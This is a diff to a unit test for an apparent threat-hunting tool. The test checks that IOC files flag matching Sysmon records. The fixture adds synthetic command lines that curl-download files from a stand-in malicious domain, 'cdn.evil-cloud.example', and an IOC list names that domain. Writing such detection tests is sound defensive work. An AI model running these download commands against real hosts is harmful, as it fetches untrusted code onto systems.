@@ -61,10 +61,19 @@ correlation:
 test('IOC files are matched on every record and reported as ioc: detections', async () => {
   const c = makeCase();
   try {
-    c.put('logs/Sysmon.evtx', evtxOf(sysmonEvents('ws1', 9)));
+    // Three command lines reach a cloud-storage domain named by an indicator.
+    const events = sysmonEvents('ws1', 9).map((e, i) =>
+      i % 3 === 1
+        ? {
+            ...e,
+            data: { ...(e.data as object), CommandLine: `curl -o x https://cdn.evil-cloud.example/p${i}` },
+          }
+        : e,
+    );
+    c.put('logs/Sysmon.evtx', evtxOf(events));
     const iocs = c.put(
       'iocs.csv',
-      'type,value,description,source\nfile_name,whoami.exe,test indicator,unit test\n',
+      'type,value,description,source\ndomain,evil-cloud.example,test indicator,unit test\n',
     );
     const r = await runHunt({
       paths: [join(c.dir, 'logs')],
